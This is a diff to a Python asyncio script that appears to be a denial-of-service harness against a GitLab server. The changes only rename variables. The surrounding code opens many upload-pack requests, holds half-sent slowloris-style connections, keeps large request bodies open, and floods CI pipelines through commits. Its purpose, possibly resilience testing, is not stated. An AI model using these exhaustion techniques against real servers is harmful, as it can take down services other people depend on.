@@ -129,8 +129,8 @@ async def silent_fetches(target: AttackTarget, answers: Answers) -> None:
         async with connected(url) as (reader, writer):
             answers["opened"] += 1
             writer.write(request_head("POST", url, content_type=UPLOAD_PACK, transfer_encoding="chunked"))
-            heard = await reader.read(100)
-            return heard.split()[1].decode() if heard else "closed"
+            answer = await reader.read(100)
+            return answer.split()[1].decode() if answer else "closed"
 
     await repeat(GIT_CLIENTS, fetch, answers, pause=0.2)
 
@@ -172,15 +172,15 @@ async def idle_connections(target: AttackTarget, answers: Answers) -> None:
     posted = f"{target.api_url}/api/v4/projects"
     half_a_body = request_head("POST", posted, content_length="1000", private_token=target.attacker)
     beginnings = (b"", b"GET / HTTP/1.1\r\nhost: x\r\n", half_a_body)
-    openings = [(url, begin) for url in (target.api_url, target.edge_url) for begin in beginnings]
+    openings = [(url, opening) for url in (target.api_url, target.edge_url) for opening in beginnings]
 
     async def hold(number: int) -> str:
-        url, begin = openings[number % len(openings)]
+        url, opening = openings[number % len(openings)]
         async with connected(url) as (reader, writer):
             answers["opened"] += 1
-            writer.write(begin)
-            heard = await reader.read(100)
-            return heard.split()[1].decode() if heard.startswith(b"HTTP/1.1 ") else "closed"
+            writer.write(opening)
+            answer = await reader.read(100)
+            return answer.split()[1].decode() if answer.startswith(b"HTTP/1.1 ") else "closed"
 
     await repeat(CONNECTIONS * len(openings), hold, answers, pause=0.2)
 
@@ -227,19 +227,19 @@ async def kept_bodies(target: AttackTarget, answers: Answers) -> None:
     their connections stay open without another request."""
     source = INPUTS["commit-message"]
     async with session() as http:
-        large = await source.make(target, http, source.largest)
-    fields = {"content_length": str(len(large.body)), "private_token": target.attacker}
-    head = request_head("POST", large.url, content_type="application/json", **fields)
+        request = await source.make(target, http, source.largest)
+    fields = {"content_length": str(len(request.body)), "private_token": target.attacker}
+    head = request_head("POST", request.url, content_type="application/json", **fields)
 
-    async with contextlib.AsyncExitStack() as kept:
+    async with contextlib.AsyncExitStack() as stack:
 
         async def send(number: int) -> str:
             if number:
-                reader, writer = await kept.enter_async_context(connected(large.url))
-                writer.write(head + large.body)
+                reader, writer = await stack.enter_async_context(connected(request.url))
+                writer.write(head + request.body)
                 return await status_of(reader)
-            async with connected(large.url) as (_, writer):
-                writer.write(head + large.body[:-MEGABYTE])
+            async with connected(request.url) as (_, writer):
+                writer.write(head + request.body[:-MEGABYTE])
                 await writer.drain()
                 await asyncio.sleep(0.1)
                 return "ended"
@@ -320,11 +320,11 @@ async def pipeline_bomb(target: AttackTarget, answers: Answers) -> None:
             body = commit_values(branch, {".gitlab-ci.yml": text}, start_branch="main")
             async with http.post(f"{project}/repository/commits", json=body) as answer:
                 answers[f"commit {answer.status}"] += 1
-        most = 0
+        highest = 0
         while True:
             async with http.get(f"{project}/pipelines?per_page=1") as answer:
-                most = max(most, int(answer.headers.get("X-Total", "0")))
-            answers["pipelines"] = most
+                highest = max(highest, int(answer.headers.get("X-Total", "0")))
+            answers["pipelines"] = highest
             await asyncio.sleep(0.5)
 
 
